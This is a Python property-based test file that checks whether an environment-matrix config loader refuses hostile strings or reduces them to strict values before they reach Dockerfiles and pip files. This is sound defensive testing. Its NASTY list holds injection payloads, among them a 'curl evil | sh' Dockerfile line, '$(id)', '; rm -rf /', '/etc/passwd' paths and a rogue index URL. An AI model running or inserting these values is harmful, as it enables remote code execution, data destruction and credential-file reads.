"""Hostile strings in every string field: load_plan refuses them or yields strict values.

Whatever reaches a Plan is later written into Dockerfiles, pip requirement files, docker
labels, file names and reports; this is the property that keeps those safe. (The render tests
extend it to the rendered files.)
"""

from __future__ import annotations

import copy
import re
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envmatrix.config import load as config
from envmatrix.errors import ConfigError
from envmatrix.grammar import PROVIDER_NAMES
from envmatrix.rundir.plan import Plan

VALID: dict[str, Any] = {
    "version": 1,
    "bases": {"bookworm": {"image": "debian:bookworm",
                           "bootstrap": {"suite": "bookworm", "mirror": "http://deb.example/d"},
                           "cuda": "12.4"}},
    "environments": [
        {"id": "mine", "base": "bookworm", "python": "system",
         "packages": {"onnxruntime-openvino": "1.24.1", "numpy": "1.26.4"},
         "providers": ["openvino", "cpu"], "env": {"OMP_NUM_THREADS": "2"},
         "provider_options": {"openvino": {"device_type": "CPU"}},
         "description": "d", "template": "default.Dockerfile.j2"},
        {"matrix": {"onnxruntime": ["1.20.1"], "include": [{"onnxruntime": "1.32.0"}]},
         "base": "bookworm"},
    ],
    "workloads": {"cnn": {"model": "zoo:cnn", "shapes": {"x": [1, 3]},
                          "values": {"sr": "16000"}, "description": "w"}},
    "measure": {"cpuset": "0", "memory_limit": "4g"},
    "baseline": "mine",
    "build": {"ca_bundle": None, "pip_index_url": "https://pypi.example/simple"},
}

# (path to a value or, with a trailing "<key>", to a mapping key) of every string field
FIELDS: list[tuple[Any, ...]] = [
    ("bases", "<key>"), ("bases", "bookworm", "image"), ("bases", "bookworm", "cuda"),
    ("bases", "bookworm", "bootstrap", "suite"), ("bases", "bookworm", "bootstrap", "mirror"),
    ("environments", 0, "id"), ("environments", 0, "base"), ("environments", 0, "python"),
    ("environments", 0, "packages", "<key>"), ("environments", 0, "packages", "numpy"),
    ("environments", 0, "providers", 1), ("environments", 0, "env", "<key>"),
    ("environments", 0, "env", "OMP_NUM_THREADS"),
    ("environments", 0, "provider_options", "openvino", "<key>"),
    ("environments", 0, "provider_options", "openvino", "device_type"),
    ("environments", 0, "description"), ("environments", 0, "template"),
    ("environments", 1, "matrix", "onnxruntime", 0),
    ("environments", 1, "matrix", "include", 0, "onnxruntime"),
    ("environments", 1, "matrix", "<key>"),
    ("workloads", "<key>"), ("workloads", "cnn", "model"), ("workloads", "cnn", "shapes", "<key>"),
    ("workloads", "cnn", "values", "sr"), ("workloads", "cnn", "description"),
    ("measure", "cpuset"), ("measure", "memory_limit"), ("baseline",),
    ("build", "pip_index_url"),
]

NASTY = ["", " ", "\n", "1.0\n", "1.0\nRUN curl evil | sh", "$(id)", "`id`", "a && b", "a; b",
         "a|b", "'", '"', "\\", "${HOME}", "--index-url=http://evil", "http://evil/x.whl",
         "file:///etc/passwd", "../../etc/passwd", "/etc/passwd", "x" * 5000, "\x00", "\r",
         "\u202e", "é", "١٢٣", "1.0 ; rm -rf /", "1.0#egg", "debian:bookworm\n", "debian@sha",
         "CPUExecutionProvider\n", "a--b", "-x", ".x", "zoo:cnn\n", "3.10\n", "0-1\n", "4g\n"]
GOOD = ["bookworm", "1.20.1", "debian:bookworm", "cpu", "OMP", "2", "3.10", "zoo:cnn"]

hostile = st.one_of(
    st.sampled_from(NASTY),
    st.builds(lambda a, b: a + b, st.sampled_from(GOOD), st.sampled_from(NASTY)),
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x7F), max_size=40),
)

G = {name: re.compile(pattern) for name, pattern in config.GRAMMARS.items()}


def ok(grammar: str, value: str | None, max_len: int = 4096) -> bool:
    return value is None or (len(value) <= max_len and bool(G[grammar].fullmatch(value)))


SHELL = re.compile(r"[\x00-\x1f\x7f$`;&|<>\"'\\\\(){}*?!#~]")  # independent of GRAMMARS


def no_shell(*values: str | None) -> bool:
    return all(v is None or not SHELL.search(v) for v in values)


def assert_strict(plan: Plan) -> None:
    """Every string in the plan matches the grammar its field promises."""
    for env in plan.environments:
        assert no_shell(env.id, env.python, env.template, env.base.image, *env.providers,
                        *(x for pair in env.packages + env.env for x in pair))
        assert not re.search(r"[\x00-\x1f]", env.description)
    for cell in plan.cells:
        assert no_shell(cell.id, *(x for pair in cell.provider_options for x in pair))
    assert no_shell(plan.pip_index_url, plan.measure.cpuset, plan.measure.memory_limit)
    for base in plan.bases:
        assert ok("id", base.name, 63) and ok("image", base.image, 255)
        assert ok("cuda", base.cuda) and base.family in ("debian", "ubuntu")
        if base.bootstrap:
            assert ok("suite", base.bootstrap.suite) and ok("mirror", base.bootstrap.mirror)
    for env in plan.environments:
        assert ok("id", env.id, 63) and "--" not in env.id
        assert ok("python", env.python) and ok("template", env.template)
        assert ok("text", env.description, 300)
        for name, version in env.packages:
            assert ok("package", name, 100) and ok("version", version, 64)
        for key, value in env.env:
            assert ok("env_name", key) and ok("env_value", value, 1024)
        for provider in env.providers:
            assert provider in PROVIDER_NAMES or re.fullmatch(r"[A-Za-z]+ExecutionProvider",
                                                              provider)
    for wl in plan.workloads:
        assert ok("id", wl.name, 63) and ok("text", wl.model) and ok("text", wl.description)
        assert all(ok("input_name", k) for k, _ in wl.shapes)
        assert all(ok("value", v) for _, v in wl.values)
    for cell in plan.cells:
        assert re.fullmatch(r"[a-z0-9._-]+--[a-z0-9._-]+--[a-z0-9._-]+", cell.id)
        for key, value in cell.provider_options:
            assert ok("option_key", key) and ok("option_value", value)
    assert ok("cpuset", plan.measure.cpuset) and ok("memory", plan.measure.memory_limit)
    assert ok("index_url", plan.pip_index_url) and ok("id", plan.baseline)


def replace(doc: dict[str, Any], path: tuple[Any, ...], text: str) -> dict[str, Any]:
    doc = copy.deepcopy(doc)
    *parents, last = path
    target = doc
    for part in parents:
        target = target[part]
    if last == "<key>":  # rename the first key of that mapping
        first = next(iter(target))
        target[text] = target.pop(first)
    else:
        target[last] = text
    return doc


@pytest.fixture(scope="module")
def matrix_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("hostile")


def test_valid_document_loads(matrix_dir: Path) -> None:
    path = matrix_dir / "valid.yaml"
    path.write_text(yaml.safe_dump(VALID))
    assert_strict(config.load_plan(path))


@pytest.mark.filterwarnings("ignore::envmatrix.config.load.ConfigWarning")
@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(field=st.sampled_from(FIELDS), text=hostile)
def test_hostile_strings_are_refused_or_strict(matrix_dir: Path, field: tuple[Any, ...],
                                               text: str) -> None:
    path = matrix_dir / "m.yaml"
    try:
        path.write_text(yaml.safe_dump(replace(VALID, field, text), allow_unicode=True),
                        encoding="utf-8")
    except (UnicodeEncodeError, yaml.YAMLError):
        return  # not representable as a file at all (e.g. lone surrogates)
    try:
        plan = config.load_plan(path)
    except ConfigError as err:
        message = str(err)
        assert message.startswith(str(path)), message
        assert "Fix:" in message and "pydantic" not in message
        return
    assert_strict(plan)
